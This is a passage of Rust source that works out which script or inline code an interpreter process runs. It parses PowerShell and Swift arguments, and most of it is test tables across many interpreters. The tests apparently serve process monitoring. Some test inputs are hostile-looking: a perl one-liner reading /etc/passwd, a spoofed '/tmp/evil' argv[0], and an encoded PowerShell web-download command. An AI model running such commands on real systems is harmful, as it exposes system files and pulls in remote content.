    /// A parameter followed by a value (`-ExecutionPolicy Bypass`).
    Valued,
    /// A switch (`-NoProfile`).
    Switch,
    /// `-Version`, `-Help`: prints and exits.
    Exits,
}

/// pwsh parameters: full name, shortest accepted prefix, extra aliases, kind. A
/// parameter matches when the argument is a prefix of the full name at least as long
/// as the shortest prefix, or equals an alias (as PowerShell's own parser does).
const PWSH_PARAMS: &[(&str, &str, &[&str], PwshParam)] = &[
    ("command", "c", &[], PwshParam::Command),
    (
        "commandwithargs",
        "commandwithargs",
        &["cwa"],
        PwshParam::CommandWithArgs,
    ),
    ("configurationname", "config", &[], PwshParam::Valued),
    ("custompipename", "cus", &[], PwshParam::Valued),
    ("file", "f", &[], PwshParam::File),
    ("encodedcommand", "e", &["ec"], PwshParam::EncodedCommand),
    ("encodedarguments", "encodeda", &["ea"], PwshParam::Valued),
    ("executionpolicy", "ex", &["ep"], PwshParam::Valued),
    ("inputformat", "inp", &["if"], PwshParam::Valued),
    ("outputformat", "o", &["of"], PwshParam::Valued),
    ("windowstyle", "w", &[], PwshParam::Valued),
    ("workingdirectory", "wo", &["wd"], PwshParam::Valued),
    ("settingsfile", "settings", &[], PwshParam::Valued),
    ("noprofile", "nop", &[], PwshParam::Switch),
    (
        "noprofileloadtime",
        "noprofileloadtime",
        &[],
        PwshParam::Switch,
    ),
    ("noninteractive", "noni", &[], PwshParam::Switch),
    ("nologo", "nol", &[], PwshParam::Switch),
    ("noexit", "noe", &[], PwshParam::Switch),
    ("interactive", "i", &[], PwshParam::Switch),
    ("login", "l", &[], PwshParam::Switch),
    ("mta", "mta", &[], PwshParam::Switch),
    ("sta", "sta", &[], PwshParam::Switch),
    ("servermode", "s", &[], PwshParam::Switch),
    ("sshservermode", "sshs", &[], PwshParam::Switch),
    ("socketservermode", "so", &[], PwshParam::Switch),
    ("namedpipeservermode", "nam", &[], PwshParam::Switch),
    (
        "removeworkingdirectorytrailingcharacter",
        "removeworkingdirectorytrailingcharacter",
        &[],
        PwshParam::Switch,
    ),
    ("version", "v", &[], PwshParam::Exits),
    ("help", "h", &["?"], PwshParam::Exits),
];

fn pwsh_param(arg: &str) -> Option<PwshParam> {
    let key = arg.strip_prefix("--").or_else(|| arg.strip_prefix('-'))?;
    if key.is_empty() {
        return None;
    }
    let key = key.to_lowercase();
    PWSH_PARAMS
        .iter()
        .find(|(full, shortest, aliases, _)| {
            aliases.contains(&key.as_str())
                || (full.starts_with(key.as_str()) && key.len() >= shortest.len())
        })
        .map(|&(_, _, _, kind)| kind)
}

/// PowerShell 7: `-Command` takes the rest of the line as code, `-File` a script, a
/// bare first argument is a script, `-EncodedCommand` base64 UTF-16LE code.
fn pwsh(args: &[String]) -> Source {
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        let Some(param) = pwsh_param(arg) else {
            if arg.starts_with('-') {
                i += 1;
                continue;
            }
            return file(arg);
        };
        match param {
            PwshParam::Command => {
                let rest = args.get(i + 1..).unwrap_or(&[]);
                if rest.first().map(String::as_str) == Some("-") {
                    return Source::Stdin;
                }
                return Source::Inline(rest.join(" "));
            }
            PwshParam::CommandWithArgs => {
                return Source::Inline(args.get(i + 1).cloned().unwrap_or_default())
            }
            PwshParam::File => {
                return match args.get(i + 1).map(String::as_str) {
                    Some("-") => Source::Stdin,
                    Some(path) => file(path),
                    None => Source::Interactive,
                }
            }
            PwshParam::EncodedCommand => {
                let encoded = args.get(i + 1).map(String::as_str).unwrap_or("");
                return Source::Inline(decode_pwsh_encoded(encoded));
            }
            PwshParam::Valued => i += 2,
            PwshParam::Switch => i += 1,
            PwshParam::Exits => return Source::Interactive,
        }
    }
    Source::Interactive
}

/// `-EncodedCommand` text: base64 of UTF-16LE. Undecodable input is kept as written, so
/// the code is still keyed by what the command line carried.
fn decode_pwsh_encoded(encoded: &str) -> String {
    match base64::decode(encoded) {
        Some(bytes) => {
            let units: Vec<u16> = bytes
                .chunks_exact(2)
                .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
                .collect();
            String::from_utf16_lossy(&units)
        }
        None => encoded.to_owned(),
    }
}

/// Swift driver options followed by a value.
const SWIFT_VALUE_OPTIONS: &[&str] = &[
    "-I",
    "-L",
    "-F",
    "-D",
    "-module-name",
    "-sdk",
    "-target",
    "-j",
    "-Xcc",
    "-Xlinker",
    "-Xfrontend",
    "-Xswiftc",
    "-framework",
    "-resource-dir",
    "-swift-version",
    "-module-cache-path",
];

/// swift: `swift file.swift [args]` interprets a file, bare `swift` (or `swift repl`)
/// is the REPL, `swift build|run|package|test…` is the package manager (no script:
/// `None`). `swift-frontend -interpret file.swift` is what the driver runs.
fn swift(exe_path: &str, args: &[String]) -> Option<Source> {
    if basename(exe_path).to_ascii_lowercase().contains("frontend")
        || args.first().map(String::as_str) == Some("-frontend")
    {
        if !args.iter().any(|a| a == "-interpret") {
            return None;
        }
        return args
            .iter()
            .find(|a| a.ends_with(".swift") && !a.starts_with('-'))
            .map(|p| file(p));
    }
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "-" {
            return Some(Source::Stdin);
        }
        if arg == "--" {
            return Some(args.get(i + 1).map_or(Source::Interactive, |p| file(p)));
        }
        if arg.starts_with('-') {
            if SWIFT_VALUE_OPTIONS.contains(&arg) {
                i += 1;
            }
            i += 1;
            continue;
        }
        if arg == "repl" {
            return Some(Source::Interactive);
        }
        if arg.ends_with(".swift") || arg.contains('/') {
            return Some(file(arg));
        }
        return None;
    }
    Some(Source::Interactive)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    fn run(exe: &str, args: &[&str], cwd: &str) -> ScriptInvocation {
        analyze(exe, &argv(args), cwd).unwrap_or_else(|| panic!("{exe} {args:?}: not analyzed"))
    }

    /// Expected outcome: kind plus its detail (path, code or module).
    #[derive(Debug)]
    enum Want {
        File(&'static str),
        Inline(&'static str),
        Stdin,
        Module(&'static str),
        Interactive,
    }

    fn check_table(cases: &[(&str, &[&str], &str, Want)]) {
        for (exe, args, cwd, want) in cases {
            let got = run(exe, args, cwd);
            let ok = match want {
                Want::File(p) => got.kind == ScriptKind::File && got.script_path == *p,
                Want::Inline(code) => {
                    got.kind == ScriptKind::Inline
                        && got.inline_sha256 == sha256_hex(code.as_bytes())
                        && got.script_path.is_empty()
                }
                Want::Stdin => got.kind == ScriptKind::Stdin && got.script_path.is_empty(),
                Want::Module(m) => got.kind == ScriptKind::Module && got.module == *m,
                Want::Interactive => got.kind == ScriptKind::Interactive,
            };
            assert!(
                ok,
                "{exe} {args:?} (cwd {cwd:?}): want {want:?}, got {got:?}"
            );
        }
    }

    #[test]
    fn interpreter_names_are_canonical_and_version_agnostic() {
        let cases: &[(&str, Option<&str>)] = &[
            ("/usr/bin/python", Some("python")),
            ("/usr/bin/python2", Some("python")),
            ("/usr/bin/python3", Some("python")),
            ("/usr/bin/python3.11", Some("python")),
            ("/usr/bin/python3.13t", Some("python")),
            ("/usr/bin/python3.6m", Some("python")),
            ("/usr/bin/python3.11-dbg", Some("python")),
            ("/opt/x/pythonw", Some("python")),
            ("/usr/bin/pypy3", Some("python")),
            ("/usr/bin/pypy3.10", Some("python")),
            ("/Library/Frameworks/Python.framework/Versions/3.12/Resources/Python.app/Contents/MacOS/Python", Some("python")),
            ("/usr/bin/perl", Some("perl")),
            ("/usr/bin/perl5.36.0", Some("perl")),
            ("/usr/bin/ruby", Some("ruby")),
            ("/usr/bin/ruby3.1", Some("ruby")),
            ("/usr/bin/node", Some("node")),
            ("/usr/bin/nodejs", Some("node")),
            ("/usr/bin/php", Some("php")),
            ("/usr/bin/php8.2", Some("php")),
            ("/usr/bin/php-cli", Some("php")),
            ("/usr/bin/php8.2-cgi", Some("php")),
            ("/usr/bin/tclsh", Some("tclsh")),
            ("/usr/bin/tclsh8.6", Some("tclsh")),
            ("/usr/bin/wish", Some("tclsh")),
            ("/usr/bin/wish8.6", Some("tclsh")),
            ("/bin/sh", Some("sh")),
            ("/usr/bin/bash", Some("bash")),
            ("/bin/bash5", Some("bash")),
            ("/usr/bin/dash", Some("dash")),
            ("/bin/zsh", Some("zsh")),
            ("/usr/local/bin/zsh-5.9", Some("zsh")),
            ("/bin/ksh", Some("ksh")),
            ("/bin/ksh93", Some("ksh")),
            ("/bin/mksh", Some("ksh")),
            ("/usr/bin/osascript", Some("osascript")),
            ("/usr/local/bin/pwsh", Some("pwsh")),
            ("/usr/local/bin/powershell", Some("pwsh")),
            ("/usr/bin/swift", Some("swift")),
            ("/usr/bin/swift-frontend", Some("swift")),
            // Not interpreters.
            ("/usr/bin/env", None),
            ("/usr/bin/python3-config", None),
            ("/usr/bin/python3.11-config", None),
            ("/usr/bin/perldoc", None),
            ("/usr/bin/bashbug", None),
            ("/usr/sbin/php-fpm8.2", None),
            ("/usr/bin/shred", None),
            ("/usr/bin/ls", None),
            ("/usr/bin/nodemon", None),
            ("", None),
            ("/", None),
            ("/usr/bin/python3.11abcd", None),
            ("/usr/bin/sh\u{e9}", None),
        ];
        for (exe, want) in cases {
            assert_eq!(interpreter_of(exe, &argv(&["x"])), *want, "{exe}");
        }
    }

    #[test]
    fn argv0_counts_only_for_multicall_launchers() {
        // A process can write anything into argv[0]: a non-interpreter stays one.
        assert_eq!(
            interpreter_of("/tmp/evil", &argv(&["python3", "/usr/bin/x.py"])),
            None
        );
        assert_eq!(
            analyze("/tmp/evil", &argv(&["python3", "/usr/bin/x.py"]), "/"),
            None
        );
        // The executable decides even when argv[0] names another interpreter.
        assert_eq!(
            interpreter_of("/usr/bin/dash", &argv(&["/bin/sh"])),
            Some("dash")
        );
        assert_eq!(
            interpreter_of("/usr/bin/bash", &argv(&["sh"])),
            Some("bash")
        );
        // busybox picks its applet from argv[0] (login shells start with '-').
        assert_eq!(
            interpreter_of("/bin/busybox", &argv(&["sh", "-c", "x"])),
            Some("sh")
        );
        assert_eq!(interpreter_of("/bin/busybox", &argv(&["-sh"])), Some("sh"));
        assert_eq!(
            interpreter_of("/bin/busybox", &argv(&["/bin/ash"])),
            Some("sh")
        );
        assert_eq!(interpreter_of("/bin/busybox", &argv(&["ls", "-l"])), None);
        assert_eq!(interpreter_of("/bin/busybox", &argv(&[])), None);
        let inv = run(
            "/bin/busybox",
            &["busybox", "sh", "/tmp/a.sh", "-c", "x"],
            "/",
        );
        assert_eq!((inv.interpreter, inv.kind), ("sh", ScriptKind::File));
        assert_eq!(inv.script_path, "/tmp/a.sh");
        assert_eq!(interpreter_of("/bin/busybox", &argv(&["busybox"])), None);
    }

    #[test]
    fn python_grammar() {
        use Want::*;
        let py = "/usr/bin/python3.11";
        check_table(&[
            (py, &["python3", "x.py"], "/home/u", File("/home/u/x.py")),
            (py, &["python3", "./x.py"], "/home/u/", File("/home/u/x.py")),
            (
                py,
                &["python3", "../t/x.py", "-c", "a"],
                "/home/u",
                File("/home/t/x.py"),
            ),
            (py, &["python3", "/tmp/x.py"], "/home/u", File("/tmp/x.py")),
            (
                py,
                &["python3", "-u", "-O", "-B", "x.py"],
                "/w",
                File("/w/x.py"),
            ),
            (
                py,
                &["python3", "-W", "ignore", "x.py"],
                "/w",
                File("/w/x.py"),
            ),
            (py, &["python3", "-Wignore", "x.py"], "/w", File("/w/x.py")),
            (py, &["python3", "-X", "dev", "x.py"], "/w", File("/w/x.py")),
            (py, &["python3", "-Xutf8", "x.py"], "/w", File("/w/x.py")),
            (
                py,
                &["python3", "-uX", "dev", "x.py"],
                "/w",
                File("/w/x.py"),
            ),
            (
                py,
                &["python3", "--check-hash-based-pycs", "always", "x.py"],
                "/w",
                File("/w/x.py"),
            ),
            (py, &["python3", "-i", "x.py"], "/w", File("/w/x.py")),
            (py, &["python3", "--", "-x.py"], "/w", File("/w/-x.py")),
            (py, &["python3", "--", "-"], "/w", Stdin),
            (py, &["python3", "--"], "/w", Interactive),
            (py, &["python3", "x.py", "-m", "mod"], "/w", File("/w/x.py")),
            (py, &["python3", "-c", "print(1)"], "/w", Inline("print(1)")),
            (
                py,
                &["python3", "-uc", "print(1)", "x.py"],
                "/w",
                Inline("print(1)"),
            ),
            (py, &["python3", "-ccode"], "/w", Inline("code")),
            (py, &["python3", "-c", "-m"], "/w", Inline("-m")),
            (
                py,
                &["python3", "-Ic", "import os"],
                "/w",
                Inline("import os"),
            ),
            (py, &["python3", "-c"], "/w", Inline("")),
            (
                py,
                &["python3", "-m", "http.server", "8000"],
                "/w",
                Module("http.server"),
            ),
            (
                py,
                &["python3", "-mhttp.server"],
                "/w",
                Module("http.server"),
            ),
            (
                py,
                &["python3", "-Em", "venv", "-c", "x"],
                "/w",
                Module("venv"),
            ),
            (py, &["python3", "-m"], "/w", Module("")),
            (py, &["python3", "-"], "/w", Stdin),
            (py, &["python3", "-u", "-", "x.py"], "/w", Stdin),
            (py, &["python3"], "/w", Interactive),
            (py, &["python3", "-i"], "/w", Interactive),
            (
                py,
                &["python3", "-q", "-X", "importtime"],
                "/w",
                Interactive,
            ),
            (py, &["python3", "--version"], "/w", Interactive),
            (py, &["python3", "-V"], "/w", Interactive),
            // `#!/usr/bin/env python3`: env execs python3 with argv [python3, script].
            (
                py,
                &["python3", "/home/u/bin/tool", "--flag"],
                "/",
                File("/home/u/bin/tool"),
            ),
            // `#!/usr/bin/python3 -u`: the one #! argument precedes the script.
            (
                py,
                &["/usr/bin/python3", "-u", "/opt/t/run"],
                "/",
                File("/opt/t/run"),
            ),
        ]);
    }

    #[test]
    fn python_module_search_follows_safe_path_flags() {
        let py = "/usr/bin/python3";
        assert!(run(py, &["python3", "-m", "x"], "/w").module_from_cwd);
        assert!(!run(py, &["python3", "-I", "-m", "x"], "/w").module_from_cwd);
        assert!(!run(py, &["python3", "-Pm", "x"], "/w").module_from_cwd);
        assert!(run(py, &["python3", "-m", "x", "-I"], "/w").module_from_cwd);
    }

    #[test]
    fn perl_grammar() {
        use Want::*;
        let pl = "/usr/bin/perl";
        check_table(&[
            (pl, &["perl", "x.pl"], "/w", File("/w/x.pl")),
            (
                pl,
                &["perl", "-w", "x.pl", "-e", "1"],
                "/w",
                File("/w/x.pl"),
            ),
            (pl, &["perl", "-e", "print 1"], "/w", Inline("print 1")),
            (
                pl,
                &["perl", "-e", "print 1;", "-e", "print 2;"],
                "/w",
                Inline("print 1;\nprint 2;"),
            ),
            (
                pl,
                &["perl", "-E", "say 1", "-e", "say 2"],
                "/w",
                Inline("say 1\nsay 2"),
            ),
            (pl, &["perl", "-le", "print 4"], "/w", Inline("print 4")),
            (pl, &["perl", "-l012e", "print 4"], "/w", Inline("print 4")),
            (pl, &["perl", "-0777ne", "print"], "/w", Inline("print")),
            (pl, &["perl", "-0x1Fe", "print 1"], "/w", File("/w/print 1")),
            (pl, &["perl", "-eprint 5"], "/w", Inline("print 5")),
            (
                pl,
                &["perl", "-F:", "-lane", "print $F[0]", "/etc/passwd"],
                "/w",
                Inline("print $F[0]"),
            ),
            (
                pl,
                &["perl", "-pi.bak", "-e", "s/a/b/", "f.txt"],
                "/w",
                Inline("s/a/b/"),
            ),
            (
                pl,
                &["perl", "-I", "/lib", "-Mstrict", "x.pl"],
                "/w",
                File("/w/x.pl"),
            ),
            (
                pl,
                &[
                    "perl",
                    "-I/lib",
                    "-mstrict",
                    "-MData::Dumper=Dumper",
                    "x.pl",
                ],
                "/w",
                File("/w/x.pl"),
            ),
            (pl, &["perl", "-Me", "x.pl"], "/w", File("/w/x.pl")),
            (pl, &["perl", "-CSDe", "print 1"], "/w", Inline("print 1")),
            (pl, &["perl", "-CE", "x.pl"], "/w", File("/w/x.pl")),
            (pl, &["perl", "-d:Trace", "x.pl"], "/w", File("/w/x.pl")),
            (pl, &["perl", "-x", "x.sh"], "/w", File("/w/x.sh")),
            (pl, &["perl", "-x/tmp", "x.sh"], "/w", File("/w/x.sh")),
            (pl, &["perl", "-S", "tool"], "/w", File("/w/tool")),
            (
                pl,
                &["perl", "-n", "-p", "-a", "-s", "x.pl", "-e", "1"],
                "/w",
                File("/w/x.pl"),
            ),
            (pl, &["perl", "--", "-x.pl"], "/w", File("/w/-x.pl")),
            (pl, &["perl", "-w", "--"], "/w", Stdin),
            (pl, &["perl", "-"], "/w", Stdin),
            (pl, &["perl", "-w", "-", "arg"], "/w", Stdin),
            (pl, &["perl"], "/w", Stdin),
            (pl, &["perl", "-e"], "/w", Inline("")),
            (pl, &["perl", "-e", "1", "--", "x.pl"], "/w", Inline("1")),
            (
                pl,
                &["/usr/bin/perl", "-w", "/usr/sbin/tool", "--x"],
                "/",
                File("/usr/sbin/tool"),
            ),
        ]);
    }

    #[test]
    fn ruby_grammar() {
        use Want::*;
        let rb = "/usr/bin/ruby3.1";
        check_table(&[
            (rb, &["ruby", "x.rb"], "/w", File("/w/x.rb")),
            (
                rb,
                &["ruby", "-w", "x.rb", "-e", "1"],
                "/w",
                File("/w/x.rb"),
            ),
            (rb, &["ruby", "-e", "puts 1"], "/w", Inline("puts 1")),
            (
                rb,
                &["ruby", "-e", "a=1", "-e", "p a"],
                "/w",
                Inline("a=1\np a"),
            ),
            (rb, &["ruby", "-ne", "print"], "/w", Inline("print")),
            (
                rb,
                &["ruby", "-I", "lib", "-r", "json", "x.rb"],
                "/w",
                File("/w/x.rb"),
            ),
            (
                rb,
                &["ruby", "-Ilib", "-rjson", "x.rb"],
                "/w",
                File("/w/x.rb"),
            ),
            (
                rb,
                &["ruby", "-C", "sub", "x.rb"],
                "/w",
                File("/w/sub/x.rb"),
            ),
            (rb, &["ruby", "-Csub", "../x.rb"], "/w", File("/w/x.rb")),
            (
                rb,
                &["ruby", "-C", "/opt", "-C", "a", "x.rb"],
                "/w",
                File("/opt/a/x.rb"),
            ),
            (
                rb,
                &["ruby", "-X", "sub", "x.rb"],
                "/w",
                File("/w/sub/x.rb"),
            ),
            (
                rb,
                &["ruby", "-C", "sub", "/abs/x.rb"],
                "/w",
                File("/abs/x.rb"),
            ),
            (rb, &["ruby", "-E", "UTF-8", "x.rb"], "/w", File("/w/x.rb")),
            (
                rb,
                &["ruby", "-Ku", "-W2", "-W:no-deprecated", "x.rb"],
                "/w",
                File("/w/x.rb"),
            ),
            (rb, &["ruby", "-x", "x.sh"], "/w", File("/w/x.sh")),
            (
                rb,
                &["ruby", "--enable", "frozen-string-literal", "x.rb"],
                "/w",
                File("/w/x.rb"),
            ),
            (
                rb,
                &["ruby", "--disable=gems", "x.rb"],
                "/w",
                File("/w/x.rb"),
            ),
            (rb, &["ruby", "--yjit", "x.rb"], "/w", File("/w/x.rb")),
            (rb, &["ruby", "--", "-x.rb"], "/w", File("/w/-x.rb")),
            (rb, &["ruby", "-"], "/w", Stdin),
            (rb, &["ruby"], "/w", Stdin),
            (rb, &["ruby", "-w"], "/w", Stdin),
            (rb, &["ruby", "-e"], "/w", Inline("")),
            (rb, &["ruby", "--version"], "/w", Interactive),
        ]);
    }

    #[test]
    fn node_grammar() {
        use Want::*;
        let js = "/usr/bin/node";
        check_table(&[
            (js, &["node", "app.js"], "/w", File("/w/app.js")),
            (js, &["node", "app.js", "-e", "1"], "/w", File("/w/app.js")),
            (
                js,
                &["node", "-e", "console.log(1)"],
                "/w",
                Inline("console.log(1)"),
            ),
            (js, &["node", "--eval", "1+1"], "/w", Inline("1+1")),
            (js, &["node", "--eval=1+1"], "/w", Inline("1+1")),
            (js, &["node", "-p", "1+2"], "/w", Inline("1+2")),
            (js, &["node", "--print", "1+2"], "/w", Inline("1+2")),
            (js, &["node", "-pe", "1+3"], "/w", Inline("1+3")),
            (js, &["node", "-p", "-e", "1+4"], "/w", Inline("1+4")),
            (
                js,
                &["node", "-r", "ts-node/register", "app.ts"],
                "/w",
                File("/w/app.ts"),
            ),
            (
                js,
                &["node", "--require", "dotenv/config", "app.js"],
                "/w",
                File("/w/app.js"),
            ),
            (
                js,
                &["node", "--require=x", "app.js"],
                "/w",
                File("/w/app.js"),
            ),
            (
                js,
                &["node", "--import", "tsx", "app.ts"],
                "/w",
                File("/w/app.ts"),
            ),
            (
                js,
                &["node", "--inspect", "app.js"],
                "/w",
                File("/w/app.js"),
            ),
            (
                js,
                &["node", "--inspect=0.0.0.0:9229", "app.js"],
                "/w",
                File("/w/app.js"),
            ),
            (
                js,
                &["node", "--inspect-brk", "app.js"],
                "/w",
                File("/w/app.js"),
            ),
            (
                js,
                &[
                    "node",
                    "--max-old-space-size=4096",
                    "--no-warnings",
                    "app.js",
                ],
                "/w",
                File("/w/app.js"),
            ),
            (js, &["node", "--", "-app.js"], "/w", File("/w/-app.js")),
            (js, &["node", "inspect", "app.js"], "/w", File("/w/app.js")),
            (js, &["node", "-"], "/w", Stdin),
            (js, &["node"], "/w", Interactive),
            (js, &["node", "-i"], "/w", Interactive),
            (js, &["node", "--version"], "/w", Interactive),
            (js, &["node", "-e"], "/w", Inline("")),
        ]);
    }

    #[test]
    fn php_grammar() {
        use Want::*;
        let php = "/usr/bin/php8.2";
        check_table(&[
            (php, &["php", "x.php"], "/w", File("/w/x.php")),
            (php, &["php", "x.php", "-r", "1"], "/w", File("/w/x.php")),
            (php, &["php", "-f", "x.php"], "/w", File("/w/x.php")),
            (
                php,
                &["php", "-f", "x.php", "--", "-a"],
                "/w",
                File("/w/x.php"),
            ),
            (php, &["php", "--file=x.php"], "/w", File("/w/x.php")),
            (
                php,
                &[
                    "php",
                    "-d",
                    "memory_limit=1G",
                    "-c",
                    "/etc/php.ini",
                    "x.php",
                ],
                "/w",
                File("/w/x.php"),
            ),
            (
                php,
                &["php", "-dmemory_limit=1G", "x.php"],
                "/w",
                File("/w/x.php"),
            ),
            (php, &["php", "-n", "-q", "x.php"], "/w", File("/w/x.php")),
            (php, &["php", "-r", "echo 1;"], "/w", Inline("echo 1;")),
            (php, &["php", "-recho 2;"], "/w", Inline("echo 2;")),
            (
                php,
                &["php", "-nr", "echo 3;", "arg"],
                "/w",
                Inline("echo 3;"),
            ),
            (php, &["php", "--run", "echo 4;"], "/w", Inline("echo 4;")),
            (
                php,
                &["php", "-r", "echo 5;", "--", "x.php"],
                "/w",
                Inline("echo 5;"),
            ),
            (
                php,
                &["php", "-R", "echo $argn;"],
                "/w",
                Inline("echo $argn;"),
            ),
            (php, &["php", "-a"], "/w", Interactive),
            (php, &["php"], "/w", Stdin),
            (php, &["php", "--", "a", "b"], "/w", Stdin),
            (php, &["php", "-"], "/w", Stdin),
            (php, &["php", "-n"], "/w", Stdin),
            (php, &["php", "-r"], "/w", Inline("")),
            (php, &["php", "-v"], "/w", Interactive),
            (
                php,
                &["php", "-S", "0.0.0.0:8000", "router.php"],
                "/w",
                File("/w/router.php"),
            ),
        ]);
    }

    #[test]
    fn tcl_grammar() {
        use Want::*;
        check_table(&[
            (
                "/usr/bin/tclsh8.6",
                &["tclsh", "x.tcl", "-a"],
                "/w",
                File("/w/x.tcl"),
            ),
            (
                "/usr/bin/tclsh8.6",
                &["tclsh", "-encoding", "utf-8", "x.tcl"],
                "/w",
                File("/w/x.tcl"),
            ),
            ("/usr/bin/tclsh8.6", &["tclsh"], "/w", Interactive),
            ("/usr/bin/tclsh8.6", &["tclsh", "-x"], "/w", Interactive),
            (
                "/usr/bin/wish8.6",
                &["wish", "ui.tcl"],
                "/w",
                File("/w/ui.tcl"),
            ),
            (
                "/usr/bin/wish8.6",
                &["wish", "-encoding"],
                "/w",
                Interactive,
            ),
        ]);
    }

    #[test]
    fn shell_grammar() {
        use Want::*;
        for exe in [
            "/usr/bin/bash",
            "/bin/sh",
            "/usr/bin/dash",
            "/bin/zsh",
            "/bin/ksh93",
        ] {
            check_table(&[
                (exe, &["sh", "x.sh"], "/w", File("/w/x.sh")),
                (exe, &["sh", "x.sh", "-c", "echo"], "/w", File("/w/x.sh")),
                (exe, &["sh", "-e", "-x", "x.sh", "a"], "/w", File("/w/x.sh")),
                (exe, &["sh", "-ex", "x.sh"], "/w", File("/w/x.sh")),
                (exe, &["sh", "-o", "errexit", "x.sh"], "/w", File("/w/x.sh")),
                (exe, &["sh", "+o", "posix", "x.sh"], "/w", File("/w/x.sh")),
                (exe, &["sh", "+x", "x.sh"], "/w", File("/w/x.sh")),
                (exe, &["sh", "--", "-x.sh"], "/w", File("/w/-x.sh")),
                (exe, &["sh", "-", "x.sh"], "/w", File("/w/x.sh")),
                (exe, &["sh", "-c", "echo hi"], "/w", Inline("echo hi")),
                (
                    exe,
                    &["sh", "-c", "echo $0", "name", "arg"],
                    "/w",
                    Inline("echo $0"),
                ),
                (exe, &["sh", "-ec", "echo hi"], "/w", Inline("echo hi")),
                (exe, &["sh", "-c", "-e", "echo hi"], "/w", Inline("echo hi")),
                (
                    exe,
                    &["sh", "-c", "-o", "errexit", "echo hi"],
                    "/w",
                    Inline("echo hi"),
                ),
                (exe, &["sh", "-c", "--", "-echo"], "/w", Inline("-echo")),
                (exe, &["sh", "-c"], "/w", Inline("")),
                (exe, &["sh", "-s"], "/w", Stdin),
                (exe, &["sh", "-s", "a", "b"], "/w", Stdin),
                (exe, &["sh", "-es"], "/w", Stdin),
                (exe, &["sh"], "/w", Interactive),
                (exe, &["-sh"], "/w", Interactive),
                (exe, &["sh", "-i"], "/w", Interactive),
                (exe, &["sh", "-l"], "/w", Interactive),
                (exe, &["sh", "-"], "/w", Interactive),
            ]);
        }
        let bash = "/usr/bin/bash";
        check_table(&[
            (
                bash,
                &["bash", "--norc", "--noprofile", "x.sh"],
                "/w",
                File("/w/x.sh"),
            ),
            (
                bash,
                &["bash", "--rcfile", "/etc/rc", "x.sh"],
                "/w",
                File("/w/x.sh"),
            ),
            (
                bash,
                &["bash", "--init-file", "rc", "-c", "echo"],
                "/w",
                Inline("echo"),
            ),
            (bash, &["bash", "--login", "-i"], "/w", Interactive),
            (
                bash,
                &["bash", "-O", "extglob", "-c", "echo"],
                "/w",
                Inline("echo"),
            ),
            (
                bash,
                &["bash", "+O", "extglob", "x.sh"],
                "/w",
                File("/w/x.sh"),
            ),
            (bash, &["bash", "-i", "x.sh"], "/w", File("/w/x.sh")),
            ("/bin/zsh", &["zsh", "-b", "-x.sh"], "/w", File("/w/-x.sh")),
            (
                "/bin/zsh",
                &["zsh", "--emulate", "sh", "x.sh"],
                "/w",
                File("/w/x.sh"),
            ),
            // `#!/bin/sh`: the kernel runs [/bin/sh, /path/script, args…].
            (
                "/usr/bin/dash",
                &["/bin/sh", "/opt/job.sh", "-c", "x"],
                "/",
                File("/opt/job.sh"),
            ),
            (
                "/usr/bin/bash",
                &["/bin/bash", "-e", "/opt/job.sh"],
                "/",
                File("/opt/job.sh"),
            ),
        ]);
    }

    #[test]
    fn osascript_grammar() {
        use Want::*;
        let osa = "/usr/bin/osascript";
        check_table(&[
            (osa, &["osascript", "x.scpt"], "/w", File("/w/x.scpt")),
            (
                osa,
                &["osascript", "x.scpt", "-e", "1"],
                "/w",
                File("/w/x.scpt"),
            ),
            (osa, &["osascript", "-e", "beep"], "/w", Inline("beep")),
            (
                osa,
                &["osascript", "-e", "tell app \"Finder\"", "-e", "end tell"],
                "/w",
                Inline("tell app \"Finder\"\nend tell"),
            ),
            (
                osa,
                &["osascript", "-l", "JavaScript", "-e", "1+1"],
                "/w",
                Inline("1+1"),
            ),
            (
                osa,
                &["osascript", "-lJavaScript", "x.js"],
                "/w",
                File("/w/x.js"),
            ),
            (
                osa,
                &["osascript", "-l", "AppleScript", "-s", "h", "x.scpt"],
                "/w",
                File("/w/x.scpt"),
            ),
            (osa, &["osascript", "-ss", "-ebeep"], "/w", Inline("beep")),
            (osa, &["osascript", "-i"], "/w", Interactive),
            (osa, &["osascript", "-i", "x.scpt"], "/w", File("/w/x.scpt")),
            (osa, &["osascript"], "/w", Stdin),
            (osa, &["osascript", "-"], "/w", Stdin),
            (osa, &["osascript", "-l", "JavaScript"], "/w", Stdin),
            (osa, &["osascript", "-e"], "/w", Inline("")),
            (
                osa,
                &["osascript", "--", "-x.scpt"],
                "/w",
                File("/w/-x.scpt"),
            ),
        ]);
    }

    fn utf16le_base64(text: &str) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let mut n = 0u32;
            for (k, b) in chunk.iter().enumerate() {
                n |= u32::from(*b) << (16 - 8 * k);
            }
            for k in 0..4 {
                if k <= chunk.len() {
                    out.push(ALPHABET[((n >> (18 - 6 * k)) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    #[test]
    fn pwsh_encoded_command_is_utf16le_base64() {
        // Real `pwsh -EncodedCommand` text: "Write-Output 'hi'" as UTF-16LE.
        assert_eq!(
            decode_pwsh_encoded("VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAaQAnAA=="),
            "Write-Output 'hi'"
        );
        assert_eq!(
            utf16le_base64("Write-Output 'hi'"),
            "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAaQAnAA=="
        );
    }

    #[test]
    fn pwsh_grammar() {
        use Want::*;
        let ps = "/usr/local/bin/pwsh";
        let encoded = utf16le_base64("Invoke-WebRequest https://x -UseBasicParsing");
        let encoded_unicode = utf16le_base64("Write-Host 'h\u{e9}llo \u{1F600}'");
        check_table(&[
            (ps, &["pwsh", "x.ps1"], "/w", File("/w/x.ps1")),
            (
                ps,
                &["pwsh", "x.ps1", "-Command", "1"],
                "/w",
                File("/w/x.ps1"),
            ),
            (
                ps,
                &["pwsh", "-NoProfile", "-File", "x.ps1", "-a"],
                "/w",
                File("/w/x.ps1"),
            ),
